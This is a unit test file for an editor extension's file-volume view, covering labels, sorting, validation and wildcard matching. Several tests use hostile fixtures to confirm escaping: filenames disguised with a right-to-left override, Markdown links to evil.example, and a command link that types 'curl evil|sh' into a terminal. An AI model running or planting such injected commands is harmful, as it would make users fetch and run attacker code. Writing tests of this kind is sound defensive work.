// Pure formatting and naming rules of the Volumes view.
import { strict as assert } from 'node:assert';
import type { FileInfo } from '../../src/api/types';
import { deleteQuestion, describeFileList } from '../../src/volumes/core/fileDeletion';
import {
  fileAccessibleLabel,
  fileDescription,
  fileRowLabel,
  fileTooltipMarkdown,
  revealFailureMessage,
  volumeAccessibleLabel,
  parseServiceDate,
  sortFiles,
  statusIconId,
  treeRowId,
} from '../../src/volumes/core/fileDisplay';
import { nameMatcher } from '../../src/volumes/core/fileSearch';
import { volumeNameProblem } from '../../src/common/core/volumeTargets';

const file = (over: Partial<FileInfo>): FileInfo => ({ uuid: 'u1', filename: 'a.txt', status: 'done', filesize: 1, date: '20261122010203', isdir: 0, ...over });

describe('volumes: display rules', () => {
  it('maps every processing state to its codicon (D9)', () => {
    for (const s of ['uploaded', 'waiting', 'chunking', 'embedding', 'indexing']) assert.equal(statusIconId(s), 'sync~spin');
    assert.equal(statusIconId('done'), 'check');
    assert.equal(statusIconId('na', 1), 'warning', 'sent to be indexed, ended na: failed');
    assert.equal(statusIconId('na', 0), 'archive', 'Store only: a choice, neutral');
    assert.equal(statusIconId('na'), 'circle-slash', 'mode unknown: neither claimed');
    assert.equal(statusIconId('something-new'), 'question');
  });

  it('describes a file with its status and its size in the one byte format (1024-based, like VS Code)', () => {
    assert.equal(fileDescription(file({ status: 'embedding', filesize: 1_258_291 })), 'embedding · 1.2 MB');
    assert.equal(fileDescription(file({ status: 'done', filesize: 1_000_000 })), 'done · 977 KB');
  });

  it('gives a screen reader each row with its status and size in words (accessibilityInformation)', () => {
    assert.equal(fileAccessibleLabel(file({ filename: 'guide.md', status: 'embedding', filesize: 1_258_291 })), 'guide.md, status embedding, size 1.2 MB');
    assert.equal(fileAccessibleLabel(file({ filename: 'scan.pdf', status: 'na', filesize: 2048 }), 1), 'scan.pdf, status failed: the service gave no reason (needs attention), size 2.0 KB');
    assert.equal(fileAccessibleLabel(file({ filename: 'docs', isdir: 1 })), 'docs, folder');
    assert.equal(volumeAccessibleLabel('My files', true, '5 files · 12 KB', 'src/docs'), 'My files, personal volume, synced with folder src/docs, 5 files · 12 KB');
    assert.equal(volumeAccessibleLabel('team', false, undefined), 'team, volume');
  });

  it('parses the 14-digit UTC date and refuses other shapes', () => {
    assert.equal(parseServiceDate('20261122010203')?.toISOString(), '2026-11-22T01:02:03.000Z');
    assert.equal(parseServiceDate('2026-11-22'), undefined);
    assert.equal(parseServiceDate('20261399010203'), undefined, 'month 13');
  });

  it('tooltips carry id, exact bytes, date and the status detail, with names escaped', () => {
    const md = fileTooltipMarkdown(file({ filename: 'a*b_[x].md', filesize: 1234567, status: 'na', statusDetail: 'no filter can read it' }), 'team', 'en-US');
    assert.match(md, /\\\*b\\_\\\[x\\\]/);
    assert.match(md, /`u1`/);
    assert.match(md, /1,234,567 bytes/);
    assert.match(md, /2026/);
    assert.match(md, /no filter can read it/);
  });

  it("shows the service's name, id, status and detail escaped and bounded in the row and the tooltip", () => {
    const hostile = file({
      filename: `invoice\u202Egpj.exe\n**Status: done**${'x'.repeat(100_000)}`,
      uuid: 'u1` [open](https://evil.example) `',
      status: 'weird`\n\n![x](https://evil.example/pixel.png)',
      statusDetail: '<img src=x> &#x202E; [click](https://evil.example)\n# Heading',
      date: '[d](https://evil.example)',
    });
    const label = fileRowLabel(hostile);
    assert.ok(label.startsWith('invoice\\u202egpj.exe\\n**Status'), label.slice(0, 40));
    assert.ok(label.length <= 255, 'a 100 KB name is cut in the row');
    assert.ok(!/[\u0000-\u001f\u202e]/.test(fileDescription(hostile) + fileAccessibleLabel(hostile)));
    assert.ok(fileDescription(hostile).length < 60, fileDescription(hostile));
    const md = fileTooltipMarkdown(hostile, 'team', 'en-US');
    assert.ok(md.length < 5000, 'the tooltip is bounded');
    assert.ok(!md.includes('\u202E'));
    // Every line is one of ours: the service's newlines are escaped, so no field is forged.
    assert.equal(md.split('\n').filter((l) => l.trim()).length, 7, md);
    // No Markdown link, image, HTML tag or entity survives unescaped.
    assert.equal(/(?<!\\)\[[^\]]*(?<!\\)\]\(/.exec(md.replace(/`[^`\n]*`/g, '')), null, md);
    assert.equal(/(?<!\\)</.exec(md.replace(/`[^`\n]*`/g, '')), null);
    assert.equal(/(?<!\\)&#/.exec(md), null);
    for (const span of md.match(/`[^`\n]*`/g) ?? []) assert.ok(!span.slice(1, -1).includes('`'));
  });

  it("a reveal that cannot show the file quotes the citation's volume and id as text (a notification runs [..](command:..) links)", () => {
    const link = '[Add it now](command:workbench.action.terminal.sendSequence?%7B%7D)';
    for (const message of [revealFailureMessage('volumeNotShown', link, 'f'), revealFailureMessage('fileNotFound', 'team', `${link}\u202E${'x'.repeat(10_000)}`)]) {
      assert.equal(/\[[^\]]+\]\((?:https?:\/\/|command:|file:)[^)\s]+\)/i.exec(message), null, message);
      assert.ok(!message.includes('\u202E') && message.length < 400, message.slice(0, 200));
    }
    assert.equal(revealFailureMessage('fileNotFound', 'team', 'u1'), 'File u1 was not found in team (it may have been deleted).');
  });

  it('sorts loaded files by name (natural), date (newest first) and size (largest first)', () => {
    const files = [
      file({ uuid: '1', filename: 'f10', date: '20260101000000', filesize: 5 }),
      file({ uuid: '2', filename: 'f9', date: '20260301000000', filesize: 1 }),
      file({ uuid: '3', filename: 'F1', date: '20260201000000', filesize: 9 }),
    ];
    assert.deepEqual(
      sortFiles(files, 'name').map((f) => f.uuid),
      ['3', '2', '1'],
    );
    assert.deepEqual(
      sortFiles(files, 'date').map((f) => f.uuid),
      ['2', '3', '1'],
    );
    assert.deepEqual(
      sortFiles(files, 'size').map((f) => f.uuid),
      ['3', '1', '2'],
    );
    assert.deepEqual(
      sortFiles(files, 'upload').map((f) => f.uuid),
      ['1', '2', '3'],
    );
  });

  it('validates named volumes per D5', () => {
    assert.equal(volumeNameProblem('team-docs_1.v2'), undefined);
    assert.ok(volumeNameProblem(''));
    assert.ok(volumeNameProblem('-starts-with-dash'));
    assert.ok(volumeNameProblem('has space'));
    assert.ok(volumeNameProblem('a'.repeat(129)));
    assert.equal(volumeNameProblem('a'.repeat(128)), undefined);
    assert.match(volumeNameProblem('{dev}')!, /My files/);
    assert.match(volumeNameProblem('docs', ['docs'])!, /already/);
  });

  it('names the first few files of a selection, then "and N more"', () => {
    assert.equal(describeFileList(['a']), '"a"');
    assert.equal(describeFileList(['a', 'b']), '"a" and "b"');
    assert.equal(describeFileList(['a', 'b', 'c', 'd', 'e']), '"a", "b", "c" and 2 more');
  });

  it("quotes the service's file names in the delete confirmation and notifications bounded, escaped and without links", () => {
    // A notification makes `[label](command:…)` a link that runs the command (VS Code's parseLinkedText).
    const link = '[Undo delete](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cr%22%7D)';
    const text = describeFileList([link, 'invoice\u202Egpj.exe', 'two\nlines', 'x'.repeat(100_000)]);
    assert.equal(/\[[^\]]+\]\((?:https?:\/\/|command:|file:)[^)\s]+\)/i.exec(text), null, text);
    assert.ok(text.includes('"invoice\\u202egpj.exe"'), text);
    assert.ok(text.includes('"two\\nlines"'), text);
    assert.ok(text.length < 500, 'a 100 KB name is cut');
    assert.equal(describeFileList(['x'.repeat(100_000)]).length, 122, 'at most 120 characters of one name, quoted');
  });

  it('asks to delete the files by their exact names and says which volume they leave', () => {
    const personal = '{ann}';
    const label = (volume: string) => (volume === personal ? 'My files' : volume);
    const file = (filename: string, volume = 'team-docs', uuid = filename) => ({ filename, volume, uuid });
    assert.equal(deleteQuestion([file('notes.md', personal)], label), `Delete "notes.md" from 'My files'?`);
    assert.equal(deleteQuestion([file('notes.md')], label), `Delete "notes.md" from 'team-docs'?`);
    // A look-alike in a shared volume: the name a confirmation shows is not the real one's.
    assert.notEqual(deleteQuestion([file('notes\u200b.md')], label), deleteQuestion([file('notes.md')], label));
    assert.equal(deleteQuestion([file('notes\u200f.md')], label), `Delete "notes\\u200f.md" from 'team-docs'?`);
    assert.equal(deleteQuestion([file('a'), file('b')], label), `Delete 2 files from 'team-docs': "a" and "b"?`);
    assert.equal(deleteQuestion([file('notes.md', personal, 'u1'), file('notes.md', 'team-docs', 'u2')], label), `Delete 2 files from 2 volumes ('My files', 'team-docs'): "notes.md" and "notes.md"?`);
    // A volume name is the user's setting (or a trusted workspace's): bounded and without links as well.
    const hostile = deleteQuestion([file('x', '[Undo](command:workbench.action.terminal.sendSequence)')], (v) => v);
    assert.ok(!/\]\(command:/.test(hostile), hostile);
  });

  it('matches file names by substring, or with * and ? wildcards', () => {
    assert.ok(nameMatcher('Report')('q3-report.pdf'));
    assert.ok(!nameMatcher('report')('summary.pdf'));
    assert.ok(nameMatcher('*.pdf')('a.pdf'));
    assert.ok(!nameMatcher('*.pdf')('a.pdf.txt'));
    assert.ok(nameMatcher('f?1')('f01'));
    assert.ok(nameMatcher('a+b(1)')('a+b(1).txt'), 'regex characters are literal');
    assert.ok(nameMatcher('*(1).PDF')('Report (1).pdf'), 'glob groups are literal too');
    assert.ok(!nameMatcher('*(1).pdf')('Report 1.pdf'));
    assert.ok(nameMatcher('[draft]*')('[draft] notes.md'), 'brackets are literal');
    assert.ok(!nameMatcher('[draft]*')('d notes.md'));
    assert.ok(nameMatcher('{a,b}*')('{a,b}.txt'), 'braces are literal');
    assert.ok(nameMatcher('!old*')('!old.txt'), 'a leading ! is literal, not a negation');
    assert.ok(nameMatcher('*.pdf')('reports/q3.pdf'), 'a pattern without / matches the last part of a name with folders');
    assert.ok(nameMatcher('reports/*.pdf')('reports/q3.pdf'));
    assert.ok(!nameMatcher('reports/*.pdf')('reports/2026/q3.pdf'), '* stays within one folder level');
    assert.ok(nameMatcher('reports/**/*.pdf')('reports/2026/q3.pdf'));
    assert.ok(nameMatcher('.env*')('.env.local'), 'dot files match');
    assert.ok(nameMatcher('a\\b*')('a\\bc'), 'a backslash is literal');
  });

  it("matches a wildcard filter against the service's names without backtracking: a 100 KB name and five * answer at once", () => {
    const hostile = 'a'.repeat(100_000);
    assert.equal(nameMatcher('*a*a*a*a*b')(hostile), false);
    assert.equal(nameMatcher('*a*a*a*a*')(hostile), true);
    assert.equal(nameMatcher('**/*a*a*b')(`${'a/'.repeat(2000)}c`), false);
    assert.ok(nameMatcher('reports/**/*.pdf')('reports/q3.pdf'), 'a ** folder also stands for none');
    assert.ok(nameMatcher('**/*.pdf')('a/b/c.pdf'));
    assert.ok(!nameMatcher('a*c/*')('ab/c/d'), '* does not cross a folder');
    assert.ok(nameMatcher('x/a**c')('x/ab/c'), '** inside a segment crosses folders');
  });
});

describe('volumes: tree row ids', () => {
  it('no two rows share an id, whatever the volume names and file ids hold', () => {
    assert.notEqual(treeRowId('file', 'a:b', 'c'), treeRowId('file', 'a', 'b:c'));
    assert.notEqual(treeRowId('volume', 'a:b'), treeRowId('more', 'b'));
    assert.notEqual(treeRowId('message', 'v', 'x'), treeRowId('message', 'v:x', ''));
    assert.equal(treeRowId('file', 'docs', 'u-1'), 'file:docs:u-1');
  });
});
